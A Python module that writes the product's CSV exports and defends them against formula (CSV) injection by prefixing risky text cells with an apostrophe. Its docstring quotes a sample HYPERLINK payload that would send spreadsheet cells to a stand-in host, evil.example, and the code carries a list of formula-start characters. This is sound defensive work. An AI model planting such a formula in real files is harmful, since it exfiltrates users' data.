"""CSV files the product writes (the GST exports, and any other): one writer, one rule.

A spreadsheet opening a CSV runs a cell starting with `=`, `+`, `-` or `@` as a formula
(and a leading tab or carriage return hides such a start from some checks), so a buyer
named `=HYPERLINK("http://evil.example/?x="&A1,"Open")` would become a live link that
sends the sheet's cells away. Every text cell starting so is written with a leading `'`,
which spreadsheets show as text (OWASP's advice for CSV injection). Numbers are not text:
an amount passed as an int or a Decimal is written as it is, so "-3812.71" stays a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from decimal import Decimal

Cell = str | int | Decimal | None
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Cell) -> str:
    """The text a CSV holds for `value`: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | Decimal):
        return str(value)
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Iterable[Cell], rows: Iterable[Iterable[Cell]]) -> str:
    """A whole CSV file (lines ending CRLF, as RFC 4180 and spreadsheets expect)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(cell) for cell in header])
    writer.writerows([csv_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue()
